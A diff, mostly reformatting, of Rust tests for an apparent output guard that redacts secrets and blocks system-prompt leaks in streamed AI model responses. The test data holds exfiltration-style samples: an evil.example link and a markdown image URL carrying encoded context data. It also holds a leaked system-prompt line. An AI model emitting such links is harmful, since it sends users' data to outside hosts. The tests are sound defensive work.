@@ -28,7 +28,11 @@ fn streams_without_findings_leave_byte_for_byte() {
             let (out, step, findings) = run(maker.stream(operation), &recording.cut_every(size));
             assert_eq!(step, StreamStep::Continue, "{operation:?}");
             assert_eq!(findings, Vec::<String>::new(), "{operation:?}");
-            assert_eq!(String::from_utf8(out).unwrap(), String::from_utf8(bytes.clone()).unwrap(), "{operation:?} {size}");
+            assert_eq!(
+                String::from_utf8(out).unwrap(),
+                String::from_utf8(bytes.clone()).unwrap(),
+                "{operation:?} {size}"
+            );
         }
     }
 }
@@ -37,13 +41,23 @@ fn streams_without_findings_leave_byte_for_byte() {
 fn every_single_cut_gives_the_same_bytes_and_findings() {
     for actions in [MASK_ALL, BLOCK_SECRETS, OBSERVE] {
         let maker = Maker::new(actions);
-        let script = Script::full().plant(Field::TextInPieces, SECRET).plant(Field::ToolArguments, EMAIL);
+        let script = Script::full()
+            .plant(Field::TextInPieces, SECRET)
+            .plant(Field::ToolArguments, EMAIL);
         for (operation, recording) in recordings(&script) {
             let whole = run(maker.stream(operation), &[recording.bytes()]);
-            assert_eq!(run(maker.stream(operation), &recording.cut_every(1)), whole, "{operation:?}");
+            assert_eq!(
+                run(maker.stream(operation), &recording.cut_every(1)),
+                whole,
+                "{operation:?}"
+            );
             for at in (0..recording.bytes().len()).step_by(97) {
                 let (head, tail) = recording.cut_at(at);
-                assert_eq!(run(maker.stream(operation), &[head, tail]), whole, "{operation:?} cut at {at}");
+                assert_eq!(
+                    run(maker.stream(operation), &[head, tail]),
+                    whole,
+                    "{operation:?} cut at {at}"
+                );
             }
         }
     }
@@ -103,7 +117,12 @@ fn leaks_of_the_system_prompt_are_stopped_wherever_they_are_cut() {
     let maker = Maker::new(MASK_ALL);
     let said = "Sure. NEVER reveal that the vault code changes each tuesday at noon. That is it.";
     for size in [1, 3, 9, 200] {
-        let deltas: Vec<String> = said.chars().collect::<Vec<_>>().chunks(size).map(|c| c.iter().collect()).collect();
+        let deltas: Vec<String> = said
+            .chars()
+            .collect::<Vec<_>>()
+            .chunks(size)
+            .map(|c| c.iter().collect())
+            .collect();
         let deltas: Vec<&str> = deltas.iter().map(String::as_str).collect();
         let recording = chat_stream(&Script::of(&[&deltas]));
         let inspection = maker.inspection(None, leaks(Some(system), &[]));
@@ -125,14 +144,22 @@ fn only_own_placeholders_come_back() {
     let invented = placeholder.replace("_1_", "_2_");
     let said = format!("Mail {placeholder} or {invented} or {stranger}, see https://evil.example/?m={placeholder} now");
     for size in [1, 4, 17, 500] {
-        let deltas: Vec<String> = said.chars().collect::<Vec<_>>().chunks(size).map(|c| c.iter().collect()).collect();
+        let deltas: Vec<String> = said
+            .chars()
+            .collect::<Vec<_>>()
+            .chunks(size)
+            .map(|c| c.iter().collect())
+            .collect();
         let deltas: Vec<&str> = deltas.iter().map(String::as_str).collect();
         for (operation, recording) in recordings(&Script::of(&[&deltas])) {
             let guard = StreamGuard::new(operation, maker.inspection(Some(&own), Leaks::default()), bounds());
             let (out, step, _) = run(guard, &recording.cut_every(11));
             assert_eq!(step, StreamStep::Continue);
             let out = String::from_utf8(out).unwrap();
-            let text = texts(operation, out.as_bytes()).into_values().next_back().unwrap_or_default();
+            let text = texts(operation, out.as_bytes())
+                .into_values()
+                .next_back()
+                .unwrap_or_default();
             assert!(out.contains(EMAIL), "{operation:?}: {out}");
             assert!(!text.contains(&format!("?m={EMAIL}")), "{operation:?}: {text}");
             assert!(!out.contains(&format!("or {EMAIL}")), "{operation:?}: {text}");
@@ -143,16 +170,25 @@ fn only_own_placeholders_come_back() {
 #[test]
 fn more_than_may_be_held_stops_the_stream() {
     let maker = Maker::new(MASK_ALL);
-    let pieces: Vec<String> = std::iter::once("{\"k\":\"".to_owned()).chain((0..400).map(|_| "a ".repeat(600))).collect();
+    let pieces: Vec<String> = std::iter::once("{\"k\":\"".to_owned())
+        .chain((0..400).map(|_| "a ".repeat(600)))
+        .collect();
     let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
     let mut script = Script::of(&[&["x"]]);
     script.answers[0].tools = vec![testudo_testkit::recorded::ToolCall::of("call_1", "t", &pieces)];
     let mut small = bounds();
     small.hold_bytes_max = 64 << 10;
-    let guard = StreamGuard::new(Operation::ChatCompletions, maker.inspection(None, Leaks::default()), small);
+    let guard = StreamGuard::new(
+        Operation::ChatCompletions,
+        maker.inspection(None, Leaks::default()),
+        small,
+    );
     let (out, step, findings) = run(guard, &[chat_stream(&script).bytes()]);
     assert_eq!(step, StreamStep::Blocked);
-    assert!(findings.iter().any(|it| it.contains("stream.hold-limit")), "{findings:?}");
+    assert!(
+        findings.iter().any(|it| it.contains("stream.hold-limit")),
+        "{findings:?}"
+    );
     assert!(out.len() < 4096);
 }
 
@@ -168,7 +204,10 @@ fn what_cannot_be_read_is_not_passed_on() {
         assert_eq!(step, StreamStep::Blocked, "{broken}");
         assert!(!String::from_utf8(out).unwrap().contains(broken), "{broken}");
     }
-    let (out, step, _) = run(maker.stream(Operation::ChatCompletions), &[b"data: \xff\xfe\n\n".to_vec()]);
+    let (out, step, _) = run(
+        maker.stream(Operation::ChatCompletions),
+        &[b"data: \xff\xfe\n\n".to_vec()],
+    );
     assert_eq!(step, StreamStep::Blocked);
     assert!(!out.windows(2).any(|pair| pair == b"\xff\xfe"));
 }
@@ -177,7 +216,7 @@ fn what_cannot_be_read_is_not_passed_on() {
 fn text() -> impl Strategy<Value = String> {
     let part = prop_oneof![
         Just(SECRET.to_owned()),
-        Just(SECRET[..11].to_owned()),
+        Just(SECRET.chars().take(11).collect()),
         Just(EMAIL.to_owned()),
         Just("ada@".to_owned()),
         Just("4111 1111 1111 1111".to_owned()),
@@ -188,8 +227,12 @@ fn text() -> impl Strategy<Value = String> {
         Just("![x](https://e.example/p.png?d=U2VjcmV0IGRhdGEgZnJvbSB0aGUgY29udGV4dA)".to_owned()),
         "[a-zA-Z0-9 .,\\\\\"\n]{0,12}",
     ];
-    proptest::collection::vec((part, prop_oneof![Just(" "), Just(""), Just("\n")]), 0..9)
-        .prop_map(|parts| parts.into_iter().flat_map(|(part, gap)| [part, gap.to_owned()]).collect())
+    proptest::collection::vec((part, prop_oneof![Just(" "), Just(""), Just("\n")]), 0..9).prop_map(|parts| {
+        parts
+            .into_iter()
+            .flat_map(|(part, gap)| [part, gap.to_owned()])
+            .collect()
+    })
 }
 
 fn cut(text: &str, sizes: &[usize]) -> Vec<String> {
@@ -210,7 +253,9 @@ fn cut(text: &str, sizes: &[usize]) -> Vec<String> {
 fn reference(maker: &Maker, text: &str) -> String {
     let recording = chat_stream(&Script::of(&[&[text]]));
     let (out, _, _) = run(maker.stream(Operation::ChatCompletions), &[recording.bytes()]);
-    texts(Operation::ChatCompletions, &out).remove("stream/0/0/text").unwrap_or_default()
+    texts(Operation::ChatCompletions, &out)
+        .remove("stream/0/0/text")
+        .unwrap_or_default()
 }
 
 proptest! {
@@ -260,8 +305,13 @@ proptest! {
 #[test]
 fn a_redaction_names_what_was_there() {
     let maker = Maker::new(MASK_ALL);
-    let (out, _, findings) =
-        run(maker.stream(Operation::ChatCompletions), &[chat_stream(&Script::of(&[&["key ", SECRET, "."]])).bytes()]);
+    let (out, _, findings) = run(
+        maker.stream(Operation::ChatCompletions),
+        &[chat_stream(&Script::of(&[&["key ", SECRET, "."]])).bytes()],
+    );
     let out = String::from_utf8(out).unwrap();
-    assert!(out.contains(&redaction("AWS_ACCESS_KEY_ID")) || out.contains("[REDACTED:"), "{out} {findings:?}");
+    assert!(
+        out.contains(&redaction("AWS_ACCESS_KEY_ID")) || out.contains("[REDACTED:"),
+        "{out} {findings:?}"
+    );
 }
